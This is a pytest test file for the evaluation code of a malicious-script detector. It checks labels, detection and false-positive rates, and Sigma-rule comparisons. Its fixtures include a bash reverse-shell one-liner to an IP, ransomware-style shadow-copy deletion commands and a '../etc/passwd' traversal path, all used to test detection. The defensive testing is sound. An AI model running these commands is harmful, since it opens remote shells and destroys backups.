"""Evaluation: labels from a manifest or the folder layout, rates, pairs, thresholds."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from inspector.config import Settings
from inspector.evaluation import (
    EvaluationError, SampleResult, Thresholds, compare_sigma, evaluate, load_samples, summarise,
)

THRESHOLDS = Thresholds(min_detection=0.95, max_fp=0.01, min_pairs=0.95)
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
SHADOWS = "vssadmin delete shadows /all /quiet\r\nwmic shadowcopy delete\r\n"
ADMIN = "apt-get update && apt-get install -y nginx\nsystemctl enable nginx\n"


def write(root: Path, relative: str, text: str) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def result(path: str, label: str, verdict: str, language: str = "shell", original: str | None = None,
           family: str = "f") -> SampleResult:
    return SampleResult(path=path, label=label, family=family, language=language,
                        obfuscation="none" if original is None else "x", original=original, verdict=verdict,
                        score=0, complete=True, elapsed_ms=1.0)


def test_labels_languages_and_families_come_from_the_folder_layout(tmp_path: Path) -> None:
    write(tmp_path, "malicious/shell/reverse_shell/a.sh", REVERSE_SHELL)
    write(tmp_path, "benign/cmd/b.cmd", "echo hi")
    samples = {s.path: s for s in load_samples(tmp_path)}
    assert samples["malicious/shell/reverse_shell/a.sh"].label == "malicious"
    assert samples["malicious/shell/reverse_shell/a.sh"].family == "reverse_shell"
    assert samples["benign/cmd/b.cmd"].language == "cmd"


def test_a_manifest_cannot_point_outside_the_corpus(tmp_path: Path) -> None:
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"path": "../etc/passwd", "label": "benign"}) + "\n")
    with pytest.raises(EvaluationError, match="leaves the corpus"):
        load_samples(tmp_path)


def test_a_manifest_with_an_unknown_label_is_refused(tmp_path: Path) -> None:
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"path": "a.sh", "label": "maybe"}) + "\n")
    with pytest.raises(EvaluationError, match="label"):
        load_samples(tmp_path)


def test_an_empty_folder_is_not_a_corpus(tmp_path: Path) -> None:
    with pytest.raises(EvaluationError, match="no samples"):
        load_samples(tmp_path)


def test_rates_pairs_and_failures_are_computed_per_language() -> None:
    results = [
        result("m/1.sh", "malicious", "malicious"),
        result("m/2.sh", "malicious", "clean"),
        result("m/o1.sh", "malicious", "suspicious", original="m/1.sh"),
        result("m/o2.sh", "malicious", "clean", original="m/2.sh"),  # original missed: not a pair
        result("m/3.ps1", "malicious", "malicious", language="powershell"),
        result("b/1.sh", "benign", "clean"),
        result("b/2.sh", "benign", "suspicious"),
    ]
    report = summarise(Path("c"), results, THRESHOLDS, 1.0)
    assert report.detection_by_language["shell"].rate == 0.5
    assert report.detection_by_language["powershell"].rate == 1.0
    assert report.false_positives.rate == 0.5
    assert (report.obfuscated_pairs.pairs, report.obfuscated_pairs.detected) == (1, 1)
    assert [m.path for m in report.misses] == ["m/2.sh", "m/o2.sh"]
    assert [f.path for f in report.false_positive_samples] == ["b/2.sh"]
    assert not report.passed
    assert any("shell" in f for f in report.failures) and any("false positives" in f for f in report.failures)


def test_a_small_corpus_through_the_real_pipeline(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    write(corpus, "malicious/shell/a.sh", REVERSE_SHELL)
    write(corpus, "malicious/cmd/b.cmd", SHADOWS)
    write(corpus, "benign/shell/c.sh", ADMIN)
    records = [
        {"path": "malicious/shell/a.sh", "label": "malicious", "family": "reverse_shell", "language": "shell"},
        {"path": "malicious/cmd/b.cmd", "label": "malicious", "family": "ransomware", "language": "cmd"},
        {"path": "benign/shell/c.sh", "label": "benign", "family": "web_server", "language": "shell"},
    ]
    (corpus / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    report = evaluate(corpus, Settings(data_dir=tmp_path / "data", fetch=False), THRESHOLDS)
    assert report.passed, report.failures
    assert report.detection.hits == 2 and report.false_positives.hits == 0
    assert report.detection_by_family["ransomware"].rate == 1.0
    assert all(r.complete for r in report.results)


def test_a_sample_over_the_input_limit_is_refused(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    write(corpus, "malicious/shell/big.sh", "#" * 4096)
    with pytest.raises(EvaluationError, match="INSPECTOR_MAX_INPUT_BYTES"):
        evaluate(corpus, Settings(data_dir=tmp_path / "data", fetch=False, max_input_bytes=1024), THRESHOLDS)


# The development corpus's manifest shape: origin fields evaluation does not read, `batch`
# for cmd, ATT&CK tactics on malicious samples, sources as the folder below `benign/`.
DEV_SHAPED = [
    {"path": "malicious/atomic/T1/a.sh", "label": "malicious", "language": "shell", "tactics": ["execution"],
     "technique": "T1059.004", "sha256": "00", "size": 1, "executor": "sh", "platforms": ["linux"]},
    {"path": "malicious/atomic/T2/b.bat", "label": "malicious", "language": "batch",
     "tactics": ["impact", "defense-evasion"], "technique": "T1490", "test_name": "x"},
    {"path": "malicious/atomic/T3/c.sh", "label": "malicious", "language": "shell", "tactics": ["discovery"]},
    {"path": "benign/vendor-a/d.sh", "label": "benign", "language": "shell", "source_repo": "o/a", "commit": "1"},
    {"path": "benign/docs-b/e.sh", "label": "benign", "language": "shell"},
]
TEXTS = {"a.sh": REVERSE_SHELL, "b.bat": SHADOWS, "c.sh": "echo hello\n", "d.sh": ADMIN,
         "e.sh": "echo fine\n"}


def dev_shaped(root: Path) -> Path:
    for record in DEV_SHAPED:
        write(root, record["path"], TEXTS[Path(record["path"]).name])
    (root / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in DEV_SHAPED))
    return root


def test_a_manifest_of_the_development_corpus_shape_is_read(tmp_path: Path) -> None:
    samples = {s.path: s for s in load_samples(dev_shaped(tmp_path))}
    bat = samples["malicious/atomic/T2/b.bat"]
    assert bat.language == "cmd" and bat.tactics == ["impact", "defense-evasion"] and bat.technique == "T1490"
    assert samples["benign/vendor-a/d.sh"].source_name() == "vendor-a"


def test_detection_per_tactic_false_positives_per_source_and_the_findings_behind_them() -> None:
    def scored(path: str, label: str, verdict: str, ids: list[str], tactics: list[str] = [],
               source: str = "s", evidence: list[str] = ["heuristic"]) -> SampleResult:
        return result(path, label, verdict).model_copy(update={
            "finding_ids": ids, "tactics": tactics, "source": source, "evidence_sources": evidence})

    results = [
        scored("m/1", "malicious", "malicious", ["h.a", "h.b"], ["execution"]),
        scored("m/2", "malicious", "suspicious", ["sigma.x"], ["execution", "impact"], evidence=["sigma"]),
        scored("m/3", "malicious", "clean", ["h.low"], ["impact"]),
        scored("b/1", "benign", "suspicious", ["h.a"], source="vendor"),
        scored("b/2", "benign", "clean", ["h.a"], source="vendor"),
        scored("b/3", "benign", "clean", [], source="docs"),
    ]
    report = summarise(Path("c"), results, THRESHOLDS.model_copy(update={"max_source_fp": 0.4}), 1.0)
    assert report.detection_by_tactic["execution"].rate == 1.0
    assert report.detection_by_tactic["impact"].hits == 1 and report.detection_by_tactic["impact"].total == 2
    assert report.fp_by_source["vendor"].rate == 0.5 and report.fp_by_source["docs"].rate == 0.0
    assert [(c.id, c.samples) for c in report.top_fp_findings] == [("h.a", 1)]
    assert {c.id for c in report.top_detection_findings} == {"h.a", "h.b", "sigma.x"}
    assert report.detection_by_evidence["sigma"].hits == 1 and report.detection_by_evidence["heuristic"].hits == 1
    assert any("source vendor" in f for f in report.failures)


def test_the_development_corpus_shape_through_the_real_pipeline(tmp_path: Path) -> None:
    report = evaluate(dev_shaped(tmp_path / "corpus"), Settings(data_dir=tmp_path / "data", fetch=False),
                      THRESHOLDS.model_copy(update={"min_detection": 0.0}))
    assert report.detection_by_language["cmd"].rate == 1.0
    assert report.detection_by_tactic["discovery"].rate == 0.0
    assert report.detection_by_tactic["impact"].rate == 1.0
    assert set(report.fp_by_source) == {"vendor-a", "docs-b"}
    assert report.top_detection_findings and report.top_detection_findings[0].samples >= 1


SIGMA_RULE = """title: Greeting of a test
id: 6f1d3f4e-2b1a-4c1e-9a55-0c2b7c1d0e01
status: test
description: a rule for tests
author: tests
logsource:
  category: process_creation
  product: linux
detection:
  selection:
    CommandLine|contains: 'hello'
  condition: selection
level: critical
"""


def test_comparing_with_and_without_sigma_names_what_sigma_alone_flags(tmp_path: Path) -> None:
    rules = tmp_path / "sigma"
    write(rules, "rule.yml", SIGMA_RULE)
    corpus = dev_shaped(tmp_path / "corpus")
    write(corpus, "benign/docs-b/e.sh", "echo hello world\n")
    settings = Settings(data_dir=tmp_path / "data", fetch=False, sigma_dirs=[rules])
    comparison = compare_sigma(corpus, settings, THRESHOLDS.model_copy(update={"min_detection": 0.0}))
    assert comparison.detected_only_with_sigma == ["malicious/atomic/T3/c.sh"]
    assert comparison.false_positives_only_with_sigma == ["benign/docs-b/e.sh"]
    assert comparison.with_sigma.detection_by_evidence["sigma"].hits == 1
    assert "sigma" not in comparison.without_sigma.detection_by_evidence
    assert comparison.with_sigma.top_fp_findings[0].id.startswith("sigma.")


def test_comparing_needs_sigma_folders(tmp_path: Path) -> None:
    with pytest.raises(EvaluationError, match="INSPECTOR_SIGMA_DIRS"):
        compare_sigma(dev_shaped(tmp_path / "c"), Settings(data_dir=tmp_path / "d", fetch=False), THRESHOLDS)
